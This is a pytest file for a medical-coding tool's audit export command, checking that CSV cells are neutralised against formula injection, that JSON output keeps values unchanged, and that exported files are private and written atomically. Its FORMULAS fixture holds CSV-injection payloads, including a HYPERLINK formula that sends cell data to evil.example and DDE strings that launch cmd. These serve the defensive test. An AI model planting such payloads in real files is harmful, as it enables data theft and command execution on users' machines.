"""``fluorocode audit export``: a CSV a spreadsheet cannot run, a file only its owner reads.

Formula injection: OWASP "CSV Injection" (a cell that begins with = + - @, a tab or a
carriage return is run as a formula by Excel, LibreOffice and Google Sheets).
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from fluorocode.api import AuditRecord, AuditWriter, audit_log
from fluorocode.cli import cli
from fluorocode.errors import AuditError

#: Encounter ids a caller chose, each one a formula to a spreadsheet.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _record(encounter_id: str, position: int) -> AuditRecord:
    return AuditRecord(
        at="2026-07-01T10:00:00.000Z",
        key_name="scribe",
        request_id="req-1",
        position=position,
        encounter_id=encounter_id,
        input_sha256="0" * 64,
        status="clean",
        edition={"program": "medicare", "quarter": "2024Q3", "demo": True},
        lines=[
            {"index": 0, "code": "99213", "modifiers": [], "units": 1, "action": "keep"}
        ],
    )


@pytest.fixture
def home(tmp_path: Path) -> Iterator[Path]:
    home = tmp_path / "home"
    writer = AuditWriter(audit_log(home))
    try:
        writer.write(
            [_record(e, i) for i, e in enumerate([*FORMULAS, "plain-id", "a-b"])]
        )
    finally:
        writer.close()
    yield home


def _export(home: Path, *args: str) -> Result:
    return CliRunner().invoke(cli, ["audit", "export", "--home", str(home), *args])


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(home: Path) -> None:
    out = home.parent / "audit.csv"
    result = _export(home, "--format", "csv", "--output", str(out))
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8")  # as written: no newline translation
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    ids = [r["encounter_id"] for r in rows]
    assert ids == ["'" + f for f in FORMULAS] + ["plain-id", "a-b"]
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def test_json_lines_keep_the_values_as_they_are(home: Path) -> None:
    result = _export(home, "--format", "jsonl")
    assert result.exit_code == 0
    ids = [json.loads(line)["encounter_id"] for line in result.stdout.splitlines()]
    assert ids == [*FORMULAS, "plain-id", "a-b"]


def test_the_file_is_private_even_under_a_permissive_umask(home: Path) -> None:
    out = home.parent / "audit.csv"
    out.write_text("an older export\n")
    out.chmod(0o644)
    previous = os.umask(0o000)
    try:
        result = _export(home, "--format", "csv", "--output", str(out))
    finally:
        os.umask(previous)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "plain-id" in out.read_text()
    assert sorted(p.name for p in out.parent.iterdir()) == ["audit.csv", "home"]


def test_a_failed_export_leaves_the_old_file_and_no_temporary(home: Path) -> None:
    out = home.parent / "audit.jsonl"
    out.write_text("the previous export\n")
    (home / "audit.sqlite3").write_bytes(b"not a database at all" * 100)
    for extra in home.glob("audit.sqlite3-*"):
        extra.unlink()
    result = _export(home, "--format", "jsonl", "--output", str(out))
    assert isinstance(result.exception, AuditError)  # exit status 2 in cli.main
    assert "cannot read the audit trail" in str(result.exception)
    assert out.read_text() == "the previous export\n"
    assert sorted(p.name for p in out.parent.iterdir()) == ["audit.jsonl", "home"]
